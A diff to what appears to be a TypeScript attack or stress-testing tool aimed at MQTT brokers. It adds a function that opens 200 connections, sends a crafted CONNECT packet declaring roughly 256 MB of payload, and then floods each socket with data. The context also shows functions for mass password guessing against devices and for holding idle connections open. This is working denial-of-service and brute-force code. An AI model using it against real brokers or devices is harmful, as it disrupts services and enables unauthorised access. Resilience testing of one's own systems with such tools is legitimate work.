@@ -5,6 +5,8 @@ import { attackersAddress, type Target } from './target.ts'
 
 const GUESSES_AT_ONCE = 200
 const SILENT = 1_000
+const LARGE = 200
+const LARGE_PIECE_BYTES = 64 * 1024
 
 /** Many guesses at passwords of devices at once. */
 export async function mqttGuesses(target: Target, until: number): Promise<string> {
@@ -21,6 +23,22 @@ export async function mqttSilent(target: Target, until: number): Promise<string>
   const act = () => undefined
   const { opened, ended } = await holdCrowd({ ...brokerOf(target, 1), size: SILENT, act }, until)
   return `${opened} connections without CONNECT, ${ended} were ended`
+}
+
+/** Connections whose CONNECT says that 256 MB follow, and sends them. */
+export async function mqttLarge(target: Target, until: number): Promise<string> {
+  const piece = Buffer.alloc(LARGE_PIECE_BYTES)
+  const act = (socket: Socket) => {
+    socket.on('data', () => undefined)
+    socket.write(Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f, 0, 4, ...Buffer.from('MQTT'), 4, 0b1100_0110, 0, 60]))
+    const send = () => {
+      while (!socket.destroyed && socket.write(piece));
+    }
+    socket.on('drain', send)
+    send()
+  }
+  const { opened, ended } = await holdCrowd({ ...brokerOf(target, 7), size: LARGE, act }, until)
+  return `${opened} connections, ${ended} were ended`
 }
 
 export function brokerOf(
